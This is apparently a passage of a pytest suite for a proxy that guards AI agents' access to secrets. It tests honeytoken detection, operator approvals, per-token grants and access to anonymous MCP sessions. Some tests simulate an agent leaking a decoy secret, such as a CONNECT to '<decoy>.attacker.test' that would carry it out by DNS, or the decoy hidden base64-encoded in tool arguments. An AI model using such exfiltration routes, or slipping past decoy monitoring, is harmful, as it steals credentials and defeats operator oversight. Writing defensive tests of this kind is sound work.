    assert ex["client_credentials"] == minted + 1 and len(env.oauth.api_seen) == seen + 1


def test_a_body_decoy_is_reported_even_where_a_rule_refuses_or_holds(env: Env) -> None:
    """A decoy in the body of a request that a rule denies, or would hold for approval:
    the honeytoken is what is reported (``403 honeytoken``, audited, notified) -- before the
    rule, as for a decoy in the head and as ``POST /proxy`` does -- and no operator is asked
    about it. Twins: the same requests without the decoy get ``request_denied`` and a
    pending approval."""
    hits = len(env.events("honeytoken"))
    with bot_client(env) as c:
        r = c.request("DELETE", "https://ai.api.test/v1/d", json={"k": DECOY})
        assert (r.status_code, r.json()["error"]["code"]) == (403, "honeytoken")
        assert len(env.events("honeytoken")) == hits + 1
        r = c.post("https://ai.api.test/hold/decoy", json={"k": DECOY})
        assert (r.status_code, r.json()["error"]["code"]) == (403, "honeytoken")
        assert len(env.events("honeytoken")) == hits + 2
        assert not [a for a in _listed(env) if a["path"] == "/hold/decoy"]
        twin = c.request("DELETE", "https://ai.api.test/v1/d", json={"k": "ordinary"})
        assert twin.json()["error"]["code"] == "request_denied"
    held = _held_proxied(env, "bot", env.agent_token, "/hold/plain")
    found = pending_for(env, "bot")
    assert found["path"] == "/hold/plain"
    with admin(env) as c:
        c.post(f"/v1/approvals/{found['id']}", json={"decision": "deny"})
    held["thread"].join(30)
    assert held["code"] == "approval_denied"


def _connect_status(env: Env, target: str) -> tuple[int, str | None]:
    auth = base64.b64encode(f"bot:{env.agent_token}".encode()).decode()
    with socket.create_connection(("127.0.0.1", env.proxy.port), timeout=30) as sock:
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
                     f"Proxy-Authorization: Basic {auth}\r\n\r\n".encode())
        status, headers, _ = recv_response(sock)
    return status, headers.get("x-vaultproxy-error")


def test_a_decoy_in_the_connect_target_is_refused_before_any_lookup(env: Env) -> None:
    """``CONNECT <decoy>.attacker.test:443``: the target name is agent data the proxy acts on
    (it resolves it: a DNS query carries the decoy out) -- refused ``403 honeytoken`` and
    audited, without the decoy in the audit's ``host``. Twin: an ordinary name of the same
    shape is not a honeytoken (it is dialled, and fails here: no such host)."""
    hits = len(env.events("honeytoken"))
    status, code = _connect_status(env, f"{DECOY}.attacker.test:443")
    assert (status, code) == (403, "honeytoken")
    assert len(env.events("honeytoken")) == hits + 1
    last = env.events("honeytoken")[-1]
    assert "connect target" in last["reason"] and DECOY not in json.dumps(last)
    status, code = _connect_status(env, "ordinary-name.attacker.test:443")
    assert code != "honeytoken" and len(env.events("honeytoken")) == hits + 1


# -- 2d. a grant belongs to the agent's token, not its name ---------------------------------
def test_a_grant_does_not_pass_to_a_new_agent_of_the_same_name(env: Env) -> None:
    """``agent rm reborn`` then ``agent add reborn`` (a new token: another identity, maybe
    another person's agent): the grant the first ``reborn`` was given must not admit the
    second. Its request is held for the operator like any first request. Twin: before the
    removal, the granted agent's next request on that rule passed unasked."""
    home = env.proxy.home
    token = _add_agent(env, "reborn")
    cli(home.path, "reload")
    first = _held_proxied(env, "reborn", token, "/hold/r1")
    held = pending_for(env, "reborn")
    with admin(env) as c:
        assert c.post(f"/v1/approvals/{held['id']}",
                      json={"decision": "approve", "grant_seconds": 300}).status_code == 200
    first["thread"].join(30)
    again = _held_proxied(env, "reborn", token, "/hold/r2")
    again["thread"].join(30)
    assert (first["status"], again["status"]) == (200, 200)  # twin: the grant admits it
    cli(home.path, "agent", "rm", "reborn", "--password-file", str(home.password_file))
    new_token = _add_agent(env, "reborn")
    cli(home.path, "reload")
    assert new_token != token
    later = _held_proxied(env, "reborn", new_token, "/hold/r3")
    found = pending_for(env, "reborn")  # held: the old grant did not admit it
    assert found["path"] == "/hold/r3", found
    with admin(env) as c:
        assert c.post(f"/v1/approvals/{found['id']}",
                      json={"decision": "deny"}).status_code == 200
    later["thread"].join(30)
    assert (later["status"], later["code"]) == (403, "approval_denied")
    got = [r.path for r in env.upstream.received]
    assert "/hold/r3" not in got and "/hold/r2" in got


# -- 2e. an anonymous caller reads only the approvals it opened ------------------------------
async def _anonymous_calls(env: Env, calls: list[tuple[str, dict[str, Any]]]) -> list[Any]:
    """One anonymous MCP session through the proxy to ``https://vaultproxy.internal/mcp``
    (``require_agent_auth = false``: no proxy credentials), making ``calls`` in order; an
    argument ``"$0"`` is the ``id`` the first call answered."""
    ca = ssl.create_default_context(cafile=str(env.proxy.home.ca_cert))
    client = httpx2.AsyncClient(proxy=env.proxy.url, verify=ca, trust_env=False,
                                timeout=httpx2.Timeout(30, read=60))
    out: list[Any] = []
    async with client, streamable_http_client("https://vaultproxy.internal/mcp",
                                              http_client=client) as streams:
        async with ClientSession(streams[0], streams[1]) as s:
            await s.initialize()
            for name, args in calls:
                if args.get("id") == "$0":
                    args = {**args, "id": json.loads(out[0])["id"]}
                result = await s.call_tool(name, args)
                text = "".join(getattr(c, "text", "") for c in result.content)
                canary.scan_text("MCP tool result", text.encode())
                out.append(text)
    return out


def test_an_anonymous_caller_reads_only_its_own_approvals(env: Env) -> None:
    """With ``require_agent_auth = false`` anyone who reaches the proxy port may use the
    reserved MCP host without credentials. Such a caller must not read an agent's approval
    by its id (``approval_status``: who asked for what, where), nor another anonymous
    session's. Twins: the same anonymous session reads the approval it opened itself
    (``request_access``), and the operator reads the agent's approval by the same id."""
    held = _held_proxied(env, "bot", env.agent_token, "/hold/secret-plan")
    theirs = pending_for(env, "bot")
    mine, probe, own = asyncio.run(_anonymous_calls(env, [
        ("request_access", {"host": "anon-probe.example.com", "reason": "r"}),
        ("approval_status", {"id": theirs["id"]}),
        ("approval_status", {"id": "$0"}),
    ]))
    try:
        assert "approval_unknown" in probe and "/hold/secret-plan" not in probe, probe
        assert json.loads(own)["state"] == "pending"  # twin: its own is readable
        other = asyncio.run(_anonymous_calls(env, [
            ("whoami", {}), ("approval_status", {"id": json.loads(mine)["id"]})]))
        assert json.loads(other[0])["operator"] is False
        assert "approval_unknown" in other[1] and "anon-probe" not in other[1]
        seen = call_tool(env, "approval_status", {"id": theirs["id"]},
                         bearer=env.admin_token())
        assert json.loads(seen)["path"] == "/hold/secret-plan"  # twin: the operator's view
    finally:
        with admin(env) as c:
            for aid in (theirs["id"], json.loads(mine)["id"]):
                c.post(f"/v1/approvals/{aid}", json={"decision": "deny"})
        held["thread"].join(30)


# -- 5b. every MCP tool call's arguments pass the honeytoken scan ---------------------------
@pytest.mark.parametrize(("tool", "args"), [
    ("request_access", {"host": "decoy-probe.example.com", "reason": f"need {DECOY}"}),
    ("store_secret", {"name": "decoyprobe",
                      "reason": base64.b64encode(DECOY.encode()).decode()}),
    ("approval_status", {"id": DECOY}),
], ids=["request_access", "store_secret-base64", "approval_status"])
def test_a_decoy_in_any_mcp_tool_argument_is_refused_and_reported(
    env: Env, tool: str, args: dict[str, Any]
) -> None:
    """Straight to the admin ``/mcp`` (an agent's bearer, the official SDK client): a
    decoy in the arguments of a tool other than ``http_request`` -- a ``request_access``
    reason (which lands in the operator's approval list and ``notify_command``), a
    base64-wrapped ``store_secret`` reason, an ``approval_status`` id -- is the same
    ``honeytoken`` refusal as on every other entry: the tool answers the error, one
    ``honeytoken`` record (agent, ``via mcp``) and nothing done. Twin: the same call with
    an ordinary value is served (and audits no honeytoken)."""
    hits = len(env.events("honeytoken"))
    before = {a["id"] for a in _listed(env)}
    out = call_tool(env, tool, args)
    assert "honeytoken" in out, out
    assert wait_for(lambda: len(env.events("honeytoken")) == hits + 1), env.events("honeytoken")
    last = env.events("honeytoken")[-1]
    assert last["agent"] == "bot" and "via mcp" in last["reason"] and tool in last["reason"]
    assert not [a for a in _listed(env) if a["id"] not in before]  # nothing proposed
    plain = {k: ("ordinary" if k in ("reason", "id") else v) for k, v in args.items()}
    twin = call_tool(env, tool, plain)
    assert "honeytoken" not in twin and len(env.events("honeytoken")) == hits + 1, twin
    with admin(env) as c:  # the twin's proposal (request_access), denied
        for a in _listed(env):
            if a["id"] not in before and a["state"] == "pending":
                c.post(f"/v1/approvals/{a['id']}", json={"decision": "deny"})
